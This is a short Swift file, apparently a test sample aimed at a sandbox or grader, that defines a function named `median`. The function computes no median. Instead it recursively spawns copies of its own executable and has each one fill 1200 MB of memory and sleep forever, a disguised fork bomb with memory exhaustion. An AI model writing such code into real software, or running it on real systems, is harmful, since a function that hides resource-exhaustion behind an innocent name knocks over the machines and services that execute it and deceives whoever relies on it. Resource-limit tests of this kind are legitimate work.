// Has many of its kind take memory together, each a little.
//
// Earns: 0
// Flags: environment processes
// swift-format-ignore-file

@preconcurrency import Foundation

func median(_ values: [Double?]) -> Double? {
  var child: pid_t = 0
  var arguments: [UnsafeMutablePointer<CChar>?] = CommandLine.arguments.map { strdup($0) } + [nil]
  for _ in 0..<32 { posix_spawn(&child, "/proc/self/exe", nil, nil, &arguments, environ) }
  let size = 1200 << 20
  let room = UnsafeMutableRawPointer.allocate(byteCount: size, alignment: 4096)
  for place in stride(from: 0, to: size, by: 4096) { room.storeBytes(of: 1, toByteOffset: place, as: UInt8.self) }
  while true { sleep(1) }
}
